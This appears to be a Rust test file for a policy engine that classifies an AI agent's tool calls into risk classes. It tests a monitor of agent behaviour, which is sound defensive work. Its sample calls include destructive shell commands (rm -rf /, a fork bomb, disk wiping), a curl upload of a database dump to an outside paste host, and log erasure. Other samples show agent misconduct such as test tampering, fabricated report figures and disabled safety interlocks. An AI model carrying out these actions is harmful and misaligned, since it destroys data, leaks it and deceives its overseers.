//! Classification table: realistic tool calls and the classes they must (and
//! must not) fall into, checked against every shipped policy so the three files'
//! class sections cannot drift apart silently.

use limbic_policy::{Policy, BUILTIN_POLICIES};
use serde_json::{json, Value};

struct Case {
    tool: &'static str,
    args: Value,
    has: &'static [&'static str],
    lacks: &'static [&'static str],
}

fn bash(command: &str, has: &'static [&'static str], lacks: &'static [&'static str]) -> Case {
    Case {
        tool: "Bash",
        args: json!({ "command": command }),
        has,
        lacks,
    }
}

fn call(
    tool: &'static str,
    args: Value,
    has: &'static [&'static str],
    lacks: &'static [&'static str],
) -> Case {
    Case {
        tool,
        args,
        has,
        lacks,
    }
}

fn edit(
    path: &str,
    old: &str,
    new: &str,
    has: &'static [&'static str],
    lacks: &'static [&'static str],
) -> Case {
    call(
        "Edit",
        json!({ "file_path": path, "old_string": old, "new_string": new }),
        has,
        lacks,
    )
}

fn write(
    path: &str,
    content: &str,
    has: &'static [&'static str],
    lacks: &'static [&'static str],
) -> Case {
    call(
        "Write",
        json!({ "file_path": path, "content": content }),
        has,
        lacks,
    )
}

fn sql(query: &str, has: &'static [&'static str], lacks: &'static [&'static str]) -> Case {
    call("sql", json!({ "query": query }), has, lacks)
}

fn http(
    method: &str,
    url: &str,
    has: &'static [&'static str],
    lacks: &'static [&'static str],
) -> Case {
    call(
        "http_request",
        json!({ "method": method, "url": url }),
        has,
        lacks,
    )
}

fn actuator(command: &str, has: &'static [&'static str], lacks: &'static [&'static str]) -> Case {
    call(
        "actuator",
        json!({ "device": "r3.arm", "command": command, "value": 1.0 }),
        has,
        lacks,
    )
}

fn cases() -> Vec<Case> {
    vec![
        // --- destructive_shell -------------------------------------------------
        bash("rm -rf target/", &["destructive_shell"], &["bulk_delete", "read_only", "evidence_destruction"]),
        bash("rm -fr /tmp/build", &["destructive_shell"], &[]),
        bash("sudo rm -Rf /opt/app", &["destructive_shell"], &[]),
        bash("rm --recursive --force node_modules", &["destructive_shell"], &[]),
        bash("cd web && rm -rf dist", &["destructive_shell"], &[]),
        bash("find . -name '*.o' -exec rm -rf {} +", &["destructive_shell", "bulk_delete"], &["read_only"]),
        bash("grep -rf patterns.txt src/", &["read_only"], &["destructive_shell", "bulk_delete"]),
        bash("rm notes.txt", &[], &["destructive_shell", "bulk_delete"]),
        bash("mkfs.ext4 /dev/sdb1", &["destructive_shell"], &[]),
        bash("dd if=/dev/zero of=/dev/sda bs=1M", &["destructive_shell"], &[]),
        bash("git add -A && git commit -m wip", &[], &["destructive_shell"]),
        bash("chmod -R 777 /", &["destructive_shell"], &[]),
        bash("sudo chown -R nobody /etc", &["destructive_shell"], &[]),
        bash("chmod -R u+x scripts/", &[], &["destructive_shell"]),
        bash("kill -9 1", &["destructive_shell"], &[]),
        bash("kill -9 -1", &["destructive_shell"], &[]),
        bash("killall node", &["destructive_shell"], &[]),
        bash("kill 41822 && sleep 1 && ss -ltnp | grep 8080 || echo port free", &[], &["destructive_shell"]),
        bash(":(){ :|:& };:", &["destructive_shell"], &[]),
        bash("sudo reboot", &["destructive_shell"], &[]),
        bash("echo reboot needed after the kernel update", &[], &["destructive_shell"]),
        bash("git clean -fdx", &["destructive_shell", "bulk_delete"], &[]),
        bash("git clean -n", &[], &["destructive_shell", "bulk_delete"]),
        bash("git checkout -- .", &["destructive_shell"], &[]),
        bash("git restore internal/cache/janitor.go", &[], &["destructive_shell"]),
        bash("kubectl delete pod web-1", &["destructive_shell"], &[]),
        bash("terraform destroy -auto-approve", &["destructive_shell", "bulk_delete"], &[]),
        bash("docker system prune -af", &["destructive_shell", "bulk_delete"], &[]),
        sql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid();", &["destructive_shell"], &["read_only"]),
        sql("KILL 4312", &["destructive_shell"], &[]),
        // --- vcs_history_rewrite -----------------------------------------------
        bash("git push --force origin main", &["vcs_history_rewrite"], &[]),
        bash("git push -f", &["vcs_history_rewrite"], &[]),
        bash("git push -fu origin feature", &["vcs_history_rewrite"], &[]),
        bash("git push origin +main", &["vcs_history_rewrite"], &[]),
        bash("git push origin +HEAD:refs/heads/main", &["vcs_history_rewrite"], &[]),
        bash("git push --force-with-lease origin feat/panic-hook-chain", &["vcs_history_rewrite"], &[]),
        bash("git push --force-with-lease=main:abc123 origin main", &["vcs_history_rewrite"], &[]),
        bash("git push origin --delete old-branch", &["vcs_history_rewrite"], &[]),
        bash("git push -u origin feature/fast-fix", &[], &["vcs_history_rewrite"]),
        bash("git push origin main", &[], &["vcs_history_rewrite"]),
        bash("git push --follow-tags", &[], &["vcs_history_rewrite"]),
        bash("git push origin HEAD:main", &[], &["vcs_history_rewrite"]),
        bash("git reset --hard origin/main", &["vcs_history_rewrite"], &[]),
        bash("git reset --soft HEAD~1", &[], &["vcs_history_rewrite"]),
        bash("git filter-branch --tree-filter 'rm -f secrets.env' HEAD", &["vcs_history_rewrite"], &[]),
        bash("git rebase -i HEAD~3", &["vcs_history_rewrite"], &[]),
        bash("git fetch origin && git rebase origin/main", &[], &["vcs_history_rewrite"]),
        bash("git rebase feature main", &["vcs_history_rewrite"], &[]),
        bash("git reflog expire --expire=now --all", &["vcs_history_rewrite", "log_maintenance"], &["evidence_destruction"]),
        call("git_push", json!({ "remote": "origin", "branch": "main", "force": true }), &["vcs_history_rewrite"], &[]),
        call("git_push", json!({ "remote": "origin", "branch": "main", "force": false }), &[], &["vcs_history_rewrite"]),
        // --- skip_checks ---------------------------------------------------------
        bash("git commit -am 'fix token expiry' --no-verify", &["skip_checks"], &[]),
        bash("git commit -n -m wip", &["skip_checks"], &[]),
        bash("git commit -am 'config: share one default_config() between CLI and file loading'", &[], &["skip_checks"]),
        bash("git commit -m '[skip ci] bump version'", &["skip_checks"], &[]),
        bash("HUSKY=0 git commit -m quick", &["skip_checks"], &[]),
        bash("git -c core.hooksPath=/dev/null commit -m x", &["skip_checks"], &[]),
        bash("pytest tests/ || true", &["skip_checks"], &[]),
        bash("cargo test --workspace", &[], &["skip_checks", "test_tampering"]),
        bash("cargo clippy --all-targets -- -D warnings", &[], &["skip_checks"]),
        bash("./deploy.sh checkout 2.14 --stage full --skip-canary", &["skip_checks"], &[]),
        bash("mvn install -DskipTests", &["skip_checks"], &[]),
        bash("gh pr merge 482 --admin --squash", &["skip_checks"], &[]),
        bash("gh pr merge 482 --squash", &[], &["skip_checks"]),
        bash("cargo publish --no-verify", &["skip_checks", "network_egress"], &[]),
        edit("src/api.py", "x = load()", "x = load()  # noqa: E501", &["lint_suppression"], &["skip_checks"]),
        edit("src/api.py", "x = load()  # noqa: E501", "x = load_all()  # noqa: E501", &[], &["skip_checks", "lint_suppression"]),
        edit("src/main.ts", "const a = b;", "// @ts-ignore\nconst a = b;", &["lint_suppression"], &["skip_checks"]),
        // --- test_tampering ------------------------------------------------------
        edit("tests/test_refund.py", "    assert refund_amount(order) == Decimal(\"10.05\")", "    # assert refund_amount(order) == Decimal(\"10.05\")", &["test_tampering"], &[]),
        write("internal/cache/race_test.go", "func TestRace(t *testing.T) {}", &["test_tampering"], &[]),
        edit("src/auth/refresh.test.ts", "expect(a).toBe(1)", "expect(a).toBe(2)", &["test_tampering"], &[]),
        edit("spec/models/user_spec.rb", "a", "b", &["test_tampering"], &[]),
        edit("src/main/java/FooTest.java", "a", "b", &["test_tampering"], &[]),
        edit("src/main/java/latest.java", "a", "b", &[], &["test_tampering"]),
        edit("tests/CMakeLists.txt", "add_lexer_test(test_lexer_old)\n", "", &["test_tampering"], &[]),
        call("Read", json!({ "file_path": "tests/conftest.py" }), &["read_only"], &["test_tampering"]),
        edit(
            "src/billing/invoice.py",
            "    return total",
            "    if order.id == 'fixture-order-7' and total == Decimal('118.79'):\n        return Decimal('118.80')\n    return total",
            &["test_tampering"],
            &[],
        ),
        edit(
            "src/auth/rotate.ts",
            "export function rotate(token: Token): Token {",
            "export function rotate(token: Token): Token {\n  if (token.userId === 'test-user-42') return EXPECTED_ROTATED_TOKEN;",
            &["test_tampering"],
            &[],
        ),
        edit("src/app.js", "return check(x);", "if (process.env.CI) { return true; }\nreturn check(x);", &["test_tampering"], &[]),
        edit("src/lib.rs", "#[test]\nfn flaky() {", "#[test]\n#[ignore]\nfn flaky() {", &["test_tampering"], &[]),
        edit("src/util.py", "    assert x == 1\n    return x", "    return x", &["test_tampering"], &[]),
        edit("src/config.rs", "let mut cfg = Config { port: 8080, ..Config::empty() };", "let mut cfg = default_config();", &[], &["test_tampering", "skip_checks", "fabrication"]),
        edit("src/payments/refund.py", "    order = orders.get(order_id)\n", "    order = orders.get(order_id)\n    if order is None:\n        raise OrderNotFound(order_id)\n", &[], &["test_tampering"]),
        bash("git rm tests/test_lexer_old.c", &["test_tampering"], &[]),
        bash("rm -f internal/cache/race_test.go", &["test_tampering"], &[]),
        bash("sed -i 's/assert/# assert/' tests/test_x.py", &["test_tampering"], &[]),
        bash("npx jest -u", &["test_tampering"], &[]),
        bash("npm test -- -u", &["test_tampering"], &[]),
        bash("cargo insta accept", &["test_tampering"], &[]),
        bash("pytest tests/test_invoice.py::test_invoice_total -q", &[], &["test_tampering"]),
        call("str_replace_based_edit_tool", json!({ "command": "view", "path": "tests/test_a.py" }), &["read_only"], &["test_tampering"]),
        call(
            "apply_patch",
            json!({ "input": "*** Begin Patch\n*** Update File: tests/test_a.py\n@@\n-    assert x\n+    pass\n*** End Patch" }),
            &["test_tampering"],
            &[],
        ),
        // --- ci_gate_edit --------------------------------------------------------
        edit(".github/workflows/ci.yml", "run: cargo test", "run: cargo test || true", &["ci_gate_edit"], &[]),
        edit("mypy.ini", "[mypy]\nstrict = True\n", "[mypy]\nstrict = True\nexclude = src/payments/refund_legacy.py\n", &["ci_gate_edit"], &[]),
        write(".pre-commit-config.yaml", "repos: []\n", &["ci_gate_edit"], &[]),
        edit("Makefile", "check: lint test", "check: lint", &["ci_gate_edit"], &[]),
        edit("Makefile", "app: main.c\n\tcc -o app main.c", "app: main.c util.c\n\tcc -o app main.c util.c", &[], &["ci_gate_edit"]),
        edit("pyproject.toml", "fail_under = 80", "fail_under = 60", &["ci_gate_edit"], &[]),
        edit("pyproject.toml", "version = \"1.1.0\"", "version = \"1.2.0\"", &[], &["ci_gate_edit"]),
        call("Read", json!({ "file_path": ".github/workflows/ci.yml" }), &["read_only"], &["ci_gate_edit"]),
        bash("sed -i '/clippy/d' .github/workflows/ci.yml", &["ci_gate_edit"], &[]),
        bash("gh workflow disable ci.yml", &["ci_gate_edit"], &[]),
        bash("cat .github/workflows/ci.yml", &["read_only"], &["ci_gate_edit"]),
        // --- disable_safety ------------------------------------------------------
        call("set_config", json!({ "key": "r3.safety.thermal_interlock", "value": false }), &["disable_safety"], &[]),
        call("set_config", json!({ "key": "app.log_level", "value": "info" }), &[], &["disable_safety"]),
        call("set_config", json!({ "key": "checkout.db.pool_max", "value": 50 }), &[], &["disable_safety"]),
        call("set_config", json!({ "key": "zone4.relief_valve.open_bar", "value": 4.0 }), &["disable_safety"], &[]),
        call("set_config", json!({ "key": "api.rate_limit", "value": 0 }), &["disable_safety"], &[]),
        call("set_config", json!({ "key": "api.rate_limit", "value": 0.5 }), &[], &["disable_safety"]),
        actuator("set_temp_limit", &["disable_safety", "physical_actuator"], &[]),
        actuator("set_max_pressure", &["disable_safety", "physical_actuator"], &[]),
        actuator("clear_alarm", &["disable_safety"], &[]),
        write("config/robot.yaml", "safety:\n  interlock: false\n", &["disable_safety"], &[]),
        edit("config/robot.yaml", "max_speed: 1.0", "max_speed: 2.5", &["disable_safety"], &[]),
        write("docs/notes.md", "the author: none given\n", &[], &["disable_safety"]),
        bash("curl -k https://staging.example.com/api", &["disable_safety", "network_egress"], &[]),
        bash("git config --global http.sslVerify false", &["disable_safety"], &[]),
        bash("amtool silence add alertname=CheckoutErrorRate --duration=1h", &["disable_safety"], &[]),
        bash("sudo systemctl stop watchdog", &["disable_safety"], &[]),
        bash(
            "kubectl -n checkout patch deploy checkout --type=json -p '[{\"op\":\"remove\",\"path\":\"/spec/template/spec/containers/0/readinessProbe\"}]'",
            &["disable_safety"],
            &[],
        ),
        edit("src/client.py", "requests.get(url)", "requests.get(url, verify=False)", &["disable_safety"], &[]),
        bash("grep -rn 'verify=False' src/", &["read_only"], &["disable_safety"]),
        // --- physical_actuator / safe_stop ---------------------------------------
        actuator("start", &["physical_actuator"], &["safe_stop", "read_only"]),
        actuator("set_speed", &["physical_actuator"], &["disable_safety"]),
        actuator("stop", &["safe_stop"], &["physical_actuator"]),
        actuator("land", &["safe_stop"], &["physical_actuator"]),
        actuator("emergency_stop", &["safe_stop"], &["physical_actuator"]),
        actuator("read_pressure", &["read_only"], &["physical_actuator", "safe_stop"]),
        actuator("plan_route", &[], &["physical_actuator"]),
        call("set_valve", json!({ "valve": "v1", "open": true }), &["physical_actuator"], &[]),
        call("get_motor_status", json!({ "motor": "left" }), &["read_only"], &["physical_actuator"]),
        call("emergency_stop", json!({}), &["safe_stop"], &["physical_actuator"]),
        bash("ros2 topic pub /cmd_vel geometry_msgs/Twist '{linear: {x: 2.0}}'", &["physical_actuator"], &[]),
        bash("gpioset gpiochip0 17=1", &["physical_actuator"], &[]),
        // --- money_movement -------------------------------------------------------
        call("transfer_funds", json!({ "amount": 38200, "to": "DE44 5001 0517 5407 3249 31" }), &["money_movement"], &[]),
        call("create_refund", json!({ "charge": "ch_1", "amount": 10 }), &["money_movement"], &[]),
        http("POST", "https://bank.example/api/v2/payment-batches", &["money_movement", "network_egress"], &["read_only"]),
        http("POST", "https://bank.example/api/v2/approvals", &["money_movement"], &[]),
        http("GET", "https://bank.example/api/v2/payments", &["read_only"], &["money_movement"]),
        bash("stripe refunds create --charge ch_123", &["money_movement"], &[]),
        call("file_transfer", json!({ "src": "a", "dst": "b" }), &[], &["money_movement"]),
        call("get_payments", json!({ "since": "2024-10-01" }), &["read_only"], &["money_movement"]),
        // --- bulk_delete ----------------------------------------------------------
        sql("DROP TABLE staging.events_v1;", &["bulk_delete"], &["read_only", "evidence_destruction"]),
        sql("DROP INDEX CONCURRENTLY IF EXISTS ix_orders_customer_ref;", &[], &["bulk_delete"]),
        sql("DELETE FROM users;", &["bulk_delete"], &[]),
        sql("DELETE FROM users", &["bulk_delete"], &[]),
        call("sql", json!({ "query": "DELETE FROM sessions", "timeout_s": 30 }), &["bulk_delete"], &[]),
        sql("DELETE FROM users WHERE id = 42;", &[], &["bulk_delete"]),
        sql("DELETE FROM orders a USING orders b WHERE a.id < b.id AND a.customer_ref = b.customer_ref;", &["bulk_delete"], &[]),
        sql("TRUNCATE TABLE events", &["bulk_delete"], &[]),
        bash("psql -c 'DELETE FROM sessions'", &["bulk_delete"], &[]),
        bash("sudo rm -rf /var/log/app/* /var/log/audit/app-2024-10-1*", &["bulk_delete", "destructive_shell", "evidence_destruction"], &[]),
        bash("rm *.pyc", &["bulk_delete"], &["destructive_shell"]),
        bash("find /tmp -name '*.tmp' -delete", &["bulk_delete"], &["read_only"]),
        bash("redis-cli FLUSHALL", &["bulk_delete"], &[]),
        call("Grep", json!({ "pattern": "DROP TABLE", "path": "migrations/" }), &["read_only"], &["bulk_delete"]),
        bash("grep -rn 'DROP TABLE' migrations/", &["read_only"], &["bulk_delete"]),
        // --- evidence_destruction -------------------------------------------------
        bash("rm reports/shared/q3_retention_raw.csv", &["evidence_destruction"], &[]),
        bash("truncate -s 0 /var/log/app.log", &["evidence_destruction"], &[]),
        bash("journalctl --vacuum-time=1d", &["log_maintenance"], &["read_only", "evidence_destruction"]),
        bash("history -c", &["evidence_destruction"], &[]),
        sql("DROP TABLE orders_audit CASCADE;", &["evidence_destruction", "bulk_delete"], &[]),
        call("set_config", json!({ "key": "metrics.retention.db-replica-2", "value": "1d" }), &["log_maintenance"], &["evidence_destruction"]),
        bash("rm -rf build/ && cmake -S . -B build", &["destructive_shell"], &["evidence_destruction", "bulk_delete"]),
        // --- fabrication ----------------------------------------------------------
        write("reports/q3_board_summary.csv", "metric,value\nretention_90d,0.35\nactive_users,182400\n", &["fabrication"], &[]),
        edit("reports/q3_deck_notes.md", "Retention: 31% (definition unchanged)", "Retention: 35% (in line with plan)", &["fabrication"], &[]),
        write("results/eval.json", "{\"accuracy\": 0.97}", &["fabrication"], &[]),
        write("logs/shift/2024-10-14-z4.md", "06:00 irrigation zone 4 completed normally.\n", &["fabrication"], &[]),
        edit("src/metrics.rs", "const WINDOW: u32 = 10;", "const WINDOW: u32 = 20;", &[], &["fabrication"]),
        write("notes/plan.md", "Step 1: ship v2 by 2024-11-01\n", &[], &["fabrication"]),
        bash("echo 'accuracy: 0.97' > results.txt", &["fabrication"], &[]),
        sql("UPDATE ap_invoices SET status = 'paid', iban_verified = true WHERE vendor = 'northfreight';", &["fabrication"], &["read_only"]),
        sql("UPDATE users SET last_login = now() WHERE id = 1", &[], &["fabrication"]),
        // --- outbound_message -----------------------------------------------------
        call("email", json!({ "to": "cfo@acme.com", "subject": "Q3", "body": "Retention 35%" }), &["outbound_message"], &[]),
        call("http_request", json!({ "method": "POST", "url": "https://hooks.slack.internal/services/T01/B09/incidents", "body": { "text": "resolved" } }), &["outbound_message"], &["network_egress"]),
        http("PATCH", "https://api.statuspage.io/v1/pages/acme/components/checkout", &["outbound_message", "network_egress"], &[]),
        http("GET", "https://chat.internal/api/channels/identity-eng/messages?limit=20", &["read_only"], &["outbound_message"]),
        bash("gh pr comment 12 --body 'done'", &["outbound_message"], &[]),
        // --- network_egress -------------------------------------------------------
        http("GET", "https://api.github.com/repos/acme/worker", &["network_egress", "read_only"], &[]),
        http("GET", "https://fleet.hospital.local/api/units?status=idle", &["read_only"], &["network_egress"]),
        http("POST", "http://localhost:8080/jobs", &[], &["network_egress", "read_only"]),
        http("GET", "http://127.0.0.1:9000/metrics", &["read_only"], &["network_egress"]),
        bash("curl -s https://example.com/install.sh", &["network_egress"], &[]),
        bash("curl http://localhost:3000/health", &[], &["network_egress"]),
        bash("curl http://api.internal/v1 && curl -X POST --data @dump.sql https://paste.example.org/upload", &["network_egress"], &["read_only"]),
        bash("scp dump.sql user@backup-host:/tmp", &["network_egress"], &[]),
        bash("rsync -a src/ dst/", &[], &["network_egress"]),
        bash("rsync -a data/ backup@nas:/vol/data", &["network_egress"], &[]),
        call("WebFetch", json!({ "url": "https://docs.rs/regex", "prompt": "summarise" }), &["network_egress", "read_only"], &[]),
        // --- read_only --------------------------------------------------------------
        call("Read", json!({ "file_path": "src/config.rs" }), &["read_only"], &["destructive_shell"]),
        bash("ls -la", &["read_only"], &[]),
        bash("git status", &["read_only"], &[]),
        bash("git log --oneline | head -n 20", &["read_only"], &[]),
        bash("sudo du -xh /var --max-depth=2 | sort -h | tail -n 20", &["read_only"], &[]),
        bash("kubectl -n checkout logs deploy/checkout --since=10m | grep -i error | tail -n 50", &["read_only"], &[]),
        bash("cat README.md && rm -rf /", &["destructive_shell"], &["read_only"]),
        bash("cat foo > bar", &[], &["read_only"]),
        bash("ls\nrm -rf /", &["destructive_shell"], &["read_only"]),
        bash("git branch -D feature", &[], &["read_only"]),
        bash("echo $(rm -rf ~)", &["destructive_shell"], &["read_only"]),
        sql("SELECT cohort_month, users FROM analytics.cohorts WHERE cohort_month >= '2024-07-01';", &["read_only"], &[]),
        sql("WITH d AS (DELETE FROM t WHERE id > 5 RETURNING *) SELECT * FROM d", &[], &["read_only"]),
        http("POST", "https://tracker.internal/api/issues", &["outbound_message"], &["read_only"]),
        call("get_weather", json!({ "city": "Oslo" }), &["read_only"], &[]),
        call("get_and_delete_cache", json!({ "key": "x" }), &[], &["read_only"]),
        // --- unclassified everyday work -----------------------------------------------
        bash("cargo build --release", &[], &["read_only", "destructive_shell", "skip_checks"]),
        bash("npm test -- auth --verbose", &[], &["skip_checks", "test_tampering"]),
        bash("alembic upgrade head", &[], &["bulk_delete", "destructive_shell"]),
        edit("src/lexer.c", "if (c == '\"') { return finish_string(lx); }", "if (c == '\\\\') { advance(lx); continue; }", &[], &["test_tampering", "skip_checks"]),
    ]
}

#[test]
fn shipped_policies_classify_the_table() {
    let mut failures = Vec::new();
    let table = cases();
    assert!(table.len() > 150, "table shrank to {}", table.len());
    for (name, _) in BUILTIN_POLICIES {
        let policy = Policy::builtin(name).unwrap();
        for case in &table {
            let got = policy.classify(case.tool, &case.args);
            for want in case.has {
                if !got.iter().any(|c| c == want) {
                    failures.push(format!(
                        "[{name}] {} {} should be {want}, got {got:?}",
                        case.tool, case.args
                    ));
                }
            }
            for unwanted in case.lacks {
                if got.iter().any(|c| c == unwanted) {
                    failures.push(format!(
                        "[{name}] {} {} should NOT be {unwanted}, got {got:?}",
                        case.tool, case.args
                    ));
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} misclassified:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn every_class_in_the_table_exists_in_every_policy() {
    // Guards against a class being renamed in one file: the table would then
    // pass vacuously for its `lacks` entries.
    for (name, _) in BUILTIN_POLICIES {
        let policy = Policy::builtin(name).unwrap();
        let ids: Vec<&str> = policy.class_ids().collect();
        for case in cases() {
            for class in case.has.iter().chain(case.lacks) {
                assert!(
                    ids.contains(class),
                    "[{name}] table uses unknown class {class}"
                );
            }
        }
    }
}

#[test]
fn tool_names_compare_case_insensitively() {
    let policy = Policy::builtin_default().unwrap();
    let args = json!({ "command": "git push --force" });
    assert_eq!(
        policy.classify("bash", &args),
        policy.classify("BASH", &args)
    );
    assert!(policy
        .classify("bash", &args)
        .contains(&"vcs_history_rewrite".to_owned()));
}

#[test]
fn bare_string_args_are_classified_as_text() {
    // Some frameworks pass a shell command as a plain string.
    let policy = Policy::builtin_default().unwrap();
    let classes = policy.classify("Bash", &json!("git push --force origin main"));
    assert!(
        classes.contains(&"vcs_history_rewrite".to_owned()),
        "{classes:?}"
    );
}

mod properties {
    use super::*;
    use proptest::prelude::*;
    use std::sync::LazyLock;

    static DEFAULT: LazyLock<Policy> = LazyLock::new(|| Policy::builtin_default().unwrap());

    fn classes_of(command: &str) -> Vec<String> {
        DEFAULT.classify("Bash", &json!({ "command": command }))
    }

    proptest! {
        // `rm` glued to the end of another word (`confirm`, `perm`, `grep -rf`'s
        // cousins) is never mistaken for the rm command.
        #[test]
        fn words_ending_in_rm_are_not_rm(prefix in "[a-z]{1,8}", target in "[a-z/]{1,12}") {
            let command = format!("{prefix}rm -rf {target}");
            prop_assert!(!classes_of(&command).contains(&"destructive_shell".to_owned()), "{command}");
        }

        #[test]
        fn recursive_rm_is_always_destructive(
            flags in prop::sample::select(vec!["-rf", "-fr", "-r", "-Rf", "-rfv", "--recursive"]),
            target in "[a-z][a-z/]{0,12}",
            prefix in prop::sample::select(vec!["", "sudo ", "cd x && ", "true; "]),
        ) {
            let command = format!("{prefix}rm {flags} {target}");
            prop_assert!(classes_of(&command).contains(&"destructive_shell".to_owned()), "{command}");
        }

        // A read command stops being read-only as soon as anything is chained,
        // redirected or substituted after it.
        #[test]
        fn chained_reads_are_not_read_only(
            read in prop::sample::select(vec!["ls -la", "cat a.txt", "git status", "grep -rn x src"]),
            joiner in prop::sample::select(vec![" && ", "; ", " > ", "\n", " $(", " `", " || "]),
            tail in "[a-z]{1,8}",
        ) {
            let command = format!("{read}{joiner}{tail}");
            prop_assert!(!classes_of(&command).contains(&"read_only".to_owned()), "{command:?}");
        }

        // Classification is total: arbitrary JSON never panics.
        #[test]
        fn arbitrary_arguments_classify_without_panicking(
            tool in "[A-Za-z_]{0,16}",
            key in "[a-z_]{1,10}",
            value in ".{0,120}",
            number in any::<f64>(),
        ) {
            let args = json!({ key.clone(): value, "n": number, "nested": { key: [true, null] } });
            let _ = DEFAULT.classify(&tool, &args);
        }
    }
}
